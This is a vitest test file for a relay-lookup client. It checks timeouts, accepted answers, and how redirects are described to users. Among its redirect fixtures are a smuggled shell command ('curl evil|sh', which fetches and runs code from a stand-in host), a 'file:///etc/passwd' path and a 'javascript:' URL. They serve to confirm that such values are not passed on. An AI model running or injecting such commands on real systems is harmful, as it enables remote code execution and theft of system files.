import type { Http } from "@duro/client";
import { err, ok } from "@duro/crypto/types";
import { expect, test } from "vitest";
import { askForRelay } from "./askFirst.ts";
import { askProblem } from "./relayProblems.ts";

/** Never answers, and ends once nobody waits. */
const silent: Http = {
  request: ({ signal }) =>
    new Promise((resolve) => {
      signal?.addEventListener("abort", () =>
        resolve(err({ type: "Unreachable", code: "ABORT_ERR" })),
      );
    }),
};

test("a relay that does not answer keeps nobody waiting", async () => {
  const timers = new Map<number, () => void>();
  const after = (ms: number, run: () => void) => {
    timers.set(ms, run);
    return () => void timers.delete(ms);
  };
  const asked = askForRelay({ http: silent, after }, "https://relay.example");
  const [[ms, run] = []] = [...timers];
  expect(ms).toBeLessThanOrEqual(30_000);
  run?.();
  expect(await asked).toMatchObject({ ok: false, error: { code: "RelayUnreachable", exit: 7 } });
  expect(timers.size).toBe(0);
});

const page = { status: 302, server: undefined, contentType: undefined, title: undefined };

test.each([
  ["another host", "https://other.example/sync?x=1", "other.example"],
  ["a line for a shell", "http://127.0.0.1:1/x;curl evil|sh", "http://127.0.0.1:1"],
])("a redirect to %s is told by its origin alone", (_to, location, shown) => {
  const { next } = askProblem("https://relay.example", { type: "NotARelay", ...page, location });
  expect(next).toContain(shown);
  expect(next).not.toMatch(/sync|curl/u);
});

test.each([
  "/login",
  "file:///etc/passwd",
  "javascript:1",
  "https://relay.example/sync",
  "https://",
])("a redirect that names no other host is not passed on: %s", (location) => {
  const { next } = askProblem("https://relay.example", { type: "NotARelay", ...page, location });
  expect(next).toContain("check the address");
});

test("an answer in time is taken", async () => {
  const body = { name: "duro", versionMin: 1, versionMax: 1, registration: "open" };
  const http: Http = {
    request: () =>
      Promise.resolve(
        ok({
          status: 200,
          headers: new Map(),
          body: new TextEncoder().encode(JSON.stringify(body)),
        }),
      ),
  };
  const asked = await askForRelay({ http, after: () => () => {} }, "https://relay.example");
  expect(asked).toMatchObject({ ok: true, value: { registration: "open" } });
});
